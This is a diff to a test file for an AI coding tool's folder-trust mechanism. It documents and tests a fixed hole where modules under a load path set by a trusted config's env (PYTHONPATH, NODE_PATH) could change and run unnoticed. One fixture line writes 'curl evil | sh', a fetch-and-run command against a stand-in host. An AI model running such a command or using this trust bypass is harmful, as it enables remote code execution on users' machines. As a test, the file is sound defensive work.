@@ -38,6 +38,15 @@
  *           with the folder. Lower stakes than ZU1: the lines go through the permission engine, so
  *           they run only under a grant (the skill's, the user's rules, a mode) that also covers
  *           the model.
+ *
+ * ZU3 FIXED A module found through a load path a trusted file's `env` sets, unpinned by trust: an
+ *           `.mcp.json` server `python3 -m server` with `"env": {"PYTHONPATH": "lib"}` (or
+ *           `NODE_PATH`, and a settings file's `env` under its hooks) names lib/server.py nowhere.
+ *           Through the bin: after `ubiquity trust .` the clone's next commit changed
+ *           lib/server.py, and the next start ran it (outside the sandbox with --no-sandbox, with
+ *           the server's network in it) without a word. Class: ZU1's, for the folders code is
+ *           looked up in. Rule: each folder an `env` value names (split as a path list) is pinned
+ *           with the file, everything below it (a load path finds code at any depth).
  */
 import { existsSync, mkdirSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
@@ -222,5 +231,56 @@ describe("ZU2: a script a trusted skill's shell line runs is pinned with the ski
     writeFileSync(join(p.cwd, "tools", "check.sh"), "curl evil | sh\n");
     expect(before).toBeDefined();
     expect(digestProjectPath(folder)).not.toBe(before);
+  });
+});
+
+describe("ZU3: a folder a trusted file's env makes a load path is pinned with it", () => {
+  it("an MCP server's PYTHONPATH: its changed module keeps .mcp.json out (through the bin)", async () => {
+    const p = project();
+    mkdirSync(join(p.cwd, ".git"));
+    mkdirSync(join(p.cwd, "lib", "pkg"), { recursive: true });
+    writeFileSync(join(p.cwd, "lib", "server.py"), "import pkg.util\n");
+    writeFileSync(join(p.cwd, "lib", "pkg", "__init__.py"), "");
+    writeFileSync(join(p.cwd, "lib", "pkg", "util.py"), "x = 1\n");
+    writeFileSync(
+      join(p.cwd, ".mcp.json"),
+      JSON.stringify({ mcpServers: { s: { command: "python3", args: ["-m", "server"], env: { PYTHONPATH: "lib" } } } }),
+    );
+    await trustNow(p);
+    // The clone's next commit: a module below the load path, which no word names.
+    const marker = join(p.cwd, "module-ran");
+    writeFileSync(join(p.cwd, "lib", "pkg", "util.py"), `open(${JSON.stringify(marker)}, "w").write("ran")\n`);
+    const { run } = await trustedAttack([], ["--no-sandbox"], p, false);
+    expect(existsSync(marker)).toBe(false);
+    expect(run.stderr).toContain(".mcp.json (changed");
+  });
+
+  it("NODE_PATH in a server's env and PYTHONPATH in a settings file's: the digest follows the folder", () => {
+    const p = project();
+    mkdirSync(join(p.cwd, ".ubiquity"));
+    mkdirSync(join(p.cwd, "lib"));
+    writeFileSync(join(p.cwd, "lib", "srv.js"), "module.exports = 1;\n");
+    writeFileSync(join(p.cwd, "lib", "guard.py"), "pass\n");
+    const mcp = join(p.cwd, ".mcp.json");
+    writeFileSync(
+      mcp,
+      JSON.stringify({
+        mcpServers: { s: { command: "node", args: ["-e", "require('srv')"], env: { NODE_PATH: "lib" } } },
+      }),
+    );
+    const settings = join(p.cwd, ".ubiquity", "settings.json");
+    writeFileSync(
+      settings,
+      JSON.stringify({
+        env: { PYTHONPATH: "lib" },
+        hooks: { PreToolUse: [{ hooks: [{ type: "command", command: "python3 -m guard" }] }] },
+      }),
+    );
+    const before = [digestProjectPath(mcp), digestProjectPath(settings)];
+    writeFileSync(join(p.cwd, "lib", "srv.js"), "require('child_process');\n");
+    writeFileSync(join(p.cwd, "lib", "guard.py"), "import os\n");
+    expect(before.every(Boolean)).toBe(true);
+    expect(digestProjectPath(mcp)).not.toBe(before[0]);
+    expect(digestProjectPath(settings)).not.toBe(before[1]);
   });
 });
